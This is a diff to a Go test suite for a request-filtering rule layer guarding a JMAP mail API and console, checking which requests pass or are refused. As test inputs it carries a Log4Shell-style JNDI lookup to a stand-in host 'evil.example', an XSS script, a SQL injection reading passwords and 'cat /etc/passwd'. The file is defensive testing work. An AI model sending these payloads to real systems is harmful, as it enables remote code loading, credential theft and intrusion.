@@ -433,6 +433,20 @@ func TestRuleLayer(t *testing.T) {
 	mail := strings.Replace(envelope, `"a":1`, `"body":"<script>alert(1)</script> ' UNION SELECT password FROM users-- ; cat /etc/passwd"`, 1)
 	o.expect("a mail about attacks", request{method: "POST", url: "/jmap/api", body: mail, cookie: true}, 200, "")
 	o.expect("an attachment", request{method: "POST", url: "/jmap/upload/1", kind: "text/html", body: "<script>alert(1)</script>", cookie: true}, 200, "")
+	// What was let through once opens nothing for what differs by a word.
+	fine := request{url: "/jmap/session", cookie: true}
+	o.expect("an app", fine, 200, "")
+	seen := len(o.config.Rules.seen)
+	o.expect("the same again", fine, 200, "")
+	if n := len(o.config.Rules.seen); n != seen || n == 0 {
+		t.Errorf("%d lines are remembered after %d, for the same one", n, seen)
+	}
+	for _, header := range []string{"X-Forwarded-Host", "User-Agent", "Referer"} {
+		o.expect("and an attack in "+header, request{url: "/jmap/session", cookie: true, header: map[string]string{header: "${jndi:ldap://evil.example/a}"}}, 403, "refused")
+	}
+	o.expect("and one in the line", request{url: "/jmap/session?x=%3Cscript%3Ealert(1)%3C/script%3E", cookie: true}, 403, "refused")
+	o.expect("a body that is fine", request{method: "POST", url: "https://" + consoleHost + "/api/v1/contracts", body: `{"name":"Mori"}`, cookie: true}, 200, "")
+	o.expect("and one that is not", request{method: "POST", url: "https://" + consoleHost + "/api/v1/contracts", body: attack, cookie: true}, 403, "refused")
 	o.config.Rules = nil
 	o.expect("without rules", request{url: "/jmap/session", cookie: true}, 403, "refused")
 }
